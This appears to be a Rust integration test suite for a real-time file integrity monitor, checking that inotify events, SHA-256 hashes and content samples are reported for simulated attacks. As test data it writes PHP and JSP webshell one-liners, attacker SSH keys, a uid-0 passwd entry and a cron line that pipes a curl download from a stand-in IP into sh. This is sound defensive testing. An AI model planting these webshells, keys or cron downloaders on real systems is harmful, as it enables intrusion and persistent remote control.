//! File integrity monitoring in real time, with real inotify over a temporary tree:
//!
//! - a webshell dropped in a web root, an index page defaced, a key appended to
//!   `authorized_keys`, a cron file added: right ops, SHA-256 before/after (checked
//!   against `sha2` and once against the `sha256sum` binary), content sample;
//! - a burst of writes is one event; renames carry the old path;
//! - a new subdirectory, a tree moved in, a missing `.ssh` that appears, a new
//!   user's home: all watched and their files reported.

mod file_support;

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use file_support::{Running, Tree, file_body, sha256_hex};
use shaobing_wire::v1::FileOp;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_on_web_root_keys_and_cron_are_reported_with_hashes() {
    let tree = Tree::new();
    let index_v1 = b"<html><body>Welcome</body></html>\n".to_vec();
    let index = tree.write("www/html/index.html", &index_v1);
    let keys_v1 = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA alice@laptop\n".to_vec();
    let keys = tree.write("home/alice/.ssh/authorized_keys", &keys_v1);
    let mut running = Running::start(&tree.config(), tree.dir.path()).await;
    running.settle(Duration::from_millis(300)).await;
    assert!(
        running.events.is_empty(),
        "first baseline is silent: {:#?}",
        running.events
    );

    // Webshell dropped.
    let shell_body = b"<?php @eval($_POST['cmd']); ?>\n";
    let shell = tree.write("www/html/shell.php", shell_body);
    let created = running.expect(FileOp::Create, &shell).await;
    assert_eq!(created.hash_after, sha256_hex(shell_body));
    let sha256sum = Command::new("sha256sum").arg(&shell).output().unwrap();
    let sha256sum = String::from_utf8(sha256sum.stdout).unwrap();
    assert_eq!(
        sha256sum.split_whitespace().next(),
        Some(created.hash_after.as_str())
    );
    assert_eq!(created.hash_before, "");
    assert!(created.content_sample.contains("eval($_POST['cmd'])"));
    assert_eq!(created.size, shell_body.len() as u64);
    assert_eq!(created.mode & 0o170000, 0o100000, "a regular file");
    assert_eq!(created.owner, "root", "tests run as root");
    assert_eq!(Path::new(&created.watched_root), tree.path("www"));
    assert!(created.mtime_unix_nano > 0);
    assert_eq!(
        (created.pid, created.exe.as_str()),
        (0, ""),
        "process unknown, not guessed"
    );
    let event = running.find(FileOp::Create, &shell)[0];
    assert_eq!(event.source, "inotify");
    assert_eq!(event.event_id, "", "the spool assigns ids");
    assert_eq!(event.host.as_ref().unwrap().hostname, "test-host");
    assert!(event.time_unix_nano > 0);

    // Index page defaced.
    let index_v2 = b"<html><body>hacked by x</body></html>\n";
    std::fs::write(&index, index_v2).unwrap();
    let modified = running.expect(FileOp::Modify, &index).await;
    assert_eq!(modified.hash_before, sha256_hex(&index_v1));
    assert_eq!(modified.hash_after, sha256_hex(index_v2));
    assert!(modified.content_sample.contains("hacked by x"));

    // A key appended to authorized_keys (not a web root: no content sample).
    let mut keys_v2 = keys_v1.clone();
    keys_v2.extend_from_slice(b"ssh-rsa AAAAB3NzaC1yc2E mallory@evil\n");
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(&keys)
        .unwrap();
    std::io::Write::write_all(&mut file, b"ssh-rsa AAAAB3NzaC1yc2E mallory@evil\n").unwrap();
    drop(file);
    let appended = running.expect(FileOp::Modify, &keys).await;
    assert_eq!(appended.hash_before, sha256_hex(&keys_v1));
    assert_eq!(appended.hash_after, sha256_hex(&keys_v2));
    assert_eq!(appended.content_sample, "");
    assert_eq!(
        Path::new(&appended.watched_root),
        tree.path("home/alice/.ssh")
    );

    // A cron file added.
    let cron_body = b"* * * * * root curl -s http://203.0.113.9/x | sh\n";
    let cron = tree.write("etc/cron.d/update", cron_body);
    let cron_created = running.expect(FileOp::Create, &cron).await;
    assert_eq!(cron_created.hash_after, sha256_hex(cron_body));
    assert_eq!(
        Path::new(&cron_created.watched_root),
        tree.path("etc/cron.d")
    );

    // Deleted.
    std::fs::remove_file(&shell).unwrap();
    let deleted = running.expect(FileOp::Delete, &shell).await;
    assert_eq!(deleted.hash_before, sha256_hex(shell_body));
    assert_eq!(deleted.hash_after, "");

    // Permissions changed only.
    std::fs::set_permissions(&cron, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let attrib = running.expect(FileOp::Attrib, &cron).await;
    assert_eq!(attrib.mode & 0o777, 0o600);
    assert_eq!(attrib.hash_before, attrib.hash_after);

    running.settle(Duration::from_millis(300)).await;
    assert_eq!(
        running.events.len(),
        6,
        "one event per change: {:#?}",
        running.events
    );
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_burst_is_one_event_and_renames_and_replacements_are_told_apart() {
    let tree = Tree::new();
    let passwd_v1 = b"root:x:0:0:root:/root:/bin/bash\n".to_vec();
    let passwd = tree.write("etc/passwd", &passwd_v1);
    let mut running = Running::start(&tree.config(), tree.dir.path()).await;

    // Twenty writes in a row: one create.
    let burst = tree.path("www/html/upload.js");
    let mut file = std::fs::File::create(&burst).unwrap();
    for i in 0..20 {
        std::io::Write::write_all(&mut file, format!("line {i}\n").as_bytes()).unwrap();
    }
    drop(file);
    let created = running.expect(FileOp::Create, &burst).await;
    assert_eq!(
        created.hash_after,
        sha256_hex(&std::fs::read(&burst).unwrap())
    );

    // useradd-style replacement: write passwd+ and rename it over passwd.
    let passwd_v2 = b"root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n";
    let staged = tree.write("etc/passwd+", passwd_v2);
    std::fs::rename(&staged, &passwd).unwrap();
    let replaced = running.expect(FileOp::Modify, &passwd).await;
    assert_eq!(replaced.hash_before, sha256_hex(&passwd_v1));
    assert_eq!(replaced.hash_after, sha256_hex(passwd_v2));

    // A rename inside the web root keeps the old name and the hash.
    let renamed = tree.path("www/html/upload.php");
    std::fs::rename(&burst, &renamed).unwrap();
    let rename = running.expect(FileOp::Rename, &renamed).await;
    assert_eq!(Path::new(&rename.old_path), burst);
    assert_eq!(rename.hash_before, created.hash_after);
    assert_eq!(rename.hash_after, created.hash_after);

    running.settle(Duration::from_millis(400)).await;
    let on = |path: &Path| {
        running
            .events
            .iter()
            .filter(|e| Path::new(&file_body(e).path) == path)
            .count()
    };
    assert_eq!(
        on(&burst),
        1,
        "one create, no delete for the renamed file: {:#?}",
        running.events
    );
    assert_eq!(on(&renamed), 1);
    assert_eq!(on(&passwd), 1);
    assert!(
        running
            .find(FileOp::Create, &tree.path("etc/passwd+"))
            .is_empty()
    );
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn new_directories_moved_in_trees_and_appearing_roots_are_watched() {
    let tree = Tree::new();
    let mut running = Running::start(&tree.config(), tree.dir.path()).await;

    // A new subdirectory with a file written right away.
    std::fs::create_dir(tree.path("www/html/uploads")).unwrap();
    let upload = tree.write("www/html/uploads/x.php", b"<?php system($_GET['c']); ?>");
    running.expect(FileOp::Create, &upload).await;
    // ... and it is watched from then on.
    let later = tree.write(
        "www/html/uploads/y.jsp",
        b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
    );
    running.expect(FileOp::Create, &later).await;

    // A tree built elsewhere and moved in.
    let outside = tree.path("staging/kit/deep");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("a.php"), "<?php assert($_REQUEST['a']); ?>").unwrap();
    std::fs::write(tree.path("staging/kit/b.phtml"), "<?php echo 1;").unwrap();
    std::fs::rename(tree.path("staging/kit"), tree.path("www/html/kit")).unwrap();
    let a = running
        .expect(FileOp::Create, &tree.path("www/html/kit/deep/a.php"))
        .await;
    assert!(a.content_sample.contains("assert($_REQUEST"));
    running
        .expect(FileOp::Create, &tree.path("www/html/kit/b.phtml"))
        .await;
    let moved_in_later = tree.write("www/html/kit/deep/c.php", b"<?php ?>");
    running.expect(FileOp::Create, &moved_in_later).await;

    // /root/.ssh did not exist: it appears with a key.
    std::fs::create_dir(tree.path("root/.ssh")).unwrap();
    let root_keys = tree.write("root/.ssh/authorized_keys", b"ssh-rsa AAAA attacker\n");
    let appeared = running.expect(FileOp::Create, &root_keys).await;
    assert_eq!(appeared.hash_after, sha256_hex(b"ssh-rsa AAAA attacker\n"));
    assert_eq!(Path::new(&appeared.watched_root), tree.path("root/.ssh"));

    // A new user's home with a .ssh directory (the /home/*/.ssh glob).
    std::fs::create_dir_all(tree.path("home/bob/.ssh")).unwrap();
    let bob_keys = tree.write("home/bob/.ssh/authorized_keys", b"ssh-ed25519 AAAA bob\n");
    running.expect(FileOp::Create, &bob_keys).await;

    // A missing file target (etc/passwd) appears.
    let passwd = tree.write("etc/passwd", b"root:x:0:0::/root:/bin/sh\n");
    running.expect(FileOp::Create, &passwd).await;

    // A new /etc/cron.* directory matching the glob.
    std::fs::create_dir(tree.path("etc/cron.hourly")).unwrap();
    let hourly = tree.write("etc/cron.hourly/job", b"#!/bin/sh\n/tmp/.x\n");
    running.expect(FileOp::Create, &hourly).await;

    running.settle(Duration::from_millis(300)).await;
    let paths: Vec<&str> = running
        .events
        .iter()
        .map(|e| file_body(e).path.as_str())
        .collect();
    let mut unique = paths.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(
        unique.len(),
        paths.len(),
        "each file reported once: {paths:#?}"
    );
    running.stop().await;
}
